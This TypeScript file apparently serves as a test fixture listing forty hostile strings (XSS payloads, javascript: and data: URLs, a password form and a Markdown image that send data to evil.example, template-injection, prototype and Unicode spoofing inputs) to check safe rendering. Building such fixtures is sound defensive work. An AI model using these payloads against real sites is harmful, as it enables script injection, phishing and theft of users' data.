/** A text that an attacker, a broken document or a model may put anywhere, with what it tries. */
export interface HostileString {
  readonly name: string;
  readonly text: string;
}

const LONG = 100_000;
const RUN = 'window.hacked=1';

/** What must be shown as text, or not at all: forty, for every place where somebody else's words are shown. */
export const HOSTILE_STRINGS: readonly HostileString[] = [
  { name: 'script element', text: `<script>${RUN}</script>` },
  { name: 'script element, closed from within', text: `</textarea></title></script><script>${RUN}</script>` },
  { name: 'image with a handler', text: `<img src=x onerror=${RUN}>` },
  { name: 'svg with a handler', text: `<svg/onload=${RUN}>` },
  { name: 'attribute break-out, double quotes', text: `" autofocus onfocus="${RUN}` },
  { name: 'attribute break-out, single quotes', text: `' onmouseover='${RUN}` },
  { name: 'frame', text: `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>` },
  { name: 'object and embed', text: `<object data="data:text/html,<script>${RUN}</script>"><embed src=x>` },
  { name: 'base element', text: '<base href="https://evil.example/">' },
  { name: 'meta refresh', text: '<meta http-equiv=refresh content="0;url=https://evil.example/">' },
  { name: 'style element', text: '<style>*{display:none!important}</style>' },
  { name: 'form that asks for a password', text: '<form action=https://evil.example><input type=password>' },
  { name: 'mutation through math', text: `<math><mtext><table><mglyph><style><img src onerror=${RUN}>` },
  { name: 'template and slot', text: '<template shadowrootmode=open><slot></slot></template>' },
  { name: 'comment and CDATA', text: `<!--><img src=x onerror=${RUN}>--><![CDATA[x]]>` },
  { name: 'HTML entities', text: `&lt;img src=x onerror=${RUN}&gt; &#60;b&#62; &amp;lt;` },
  { name: 'Markdown link to a script', text: `[cliquez ici](javascript:${RUN})` },
  { name: 'Markdown image that reports', text: '![x](https://evil.example/log?q=secret)' },
  { name: 'Markdown link by reference', text: `[x][1]\n\n[1]: javascript:${RUN}` },
  { name: 'Markdown autolink, code and heading', text: `<javascript:${RUN}>\n\`\`\`js\n# h1\n> cite` },
  { name: 'address with javascript:', text: `javascript:${RUN}//https://douane.gov.ma` },
  { name: 'javascript: in disguise', text: ` \u0001java\tscript\n:${RUN}` },
  { name: 'address with data:', text: `data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=` },
  { name: 'address with vbscript: and blob:', text: `vbscript:${RUN} blob:https://evil.example/1` },
  { name: 'address that names another host', text: 'https://douane.gov.ma@evil.example/' },
  {
    name: 'template expressions',
    text: '{{constructor.constructor("window.hacked=1")()}} ${window.hacked=1}',
  },
  { name: 'replacement patterns', text: '$& $1 $` $\u0027 $$ %s %00' },
  { name: 'prototype names', text: '__proto__ constructor toString hasOwnProperty' },
  { name: 'right-to-left override', text: 'facture\u202Efdp.exe' },
  { name: 'isolates and embeddings left open', text: '\u2067\u2066\u2068\u202B\u202D500 DH \u05D0 1 000' },
  { name: 'direction marks', text: '\u200F150\u200E\u061C \u200F(90)\u200F' },
  { name: 'zero-width characters', text: 'dou\u200Bane\uFEFF \u200D\u2060\u00AD mot' },
  { name: 'control characters', text: 'a\u0000b\u0007c\u001B[31md\u007F\u0085\u2028e\u2029f' },
  { name: 'lone surrogates', text: '\uD800 entre \uDFFF et \uD83D' },
  { name: 'noncharacters and private use', text: '\uFFFE\uFFFF\u{10FFFF}\uE000\u{E0041}\u{E007F}' },
  { name: 'accents without end', text: `a${'\u0301\u0316\u0334'.repeat(200)} fin` },
  { name: 'emoji of many parts', text: '👩🏽‍🚀👨‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿'.repeat(20) },
  { name: 'markers that cite nothing', text: '[0] [999] [1][1][1] [-1] [1e3] ** * ** __ 1) 2.' },
  { name: 'a word of 100 KB', text: 'm'.repeat(LONG) },
  { name: 'signs that lists, bold and figures begin with', text: `${'**[1'.repeat(500)}${'1 '.repeat(500)}` },
];
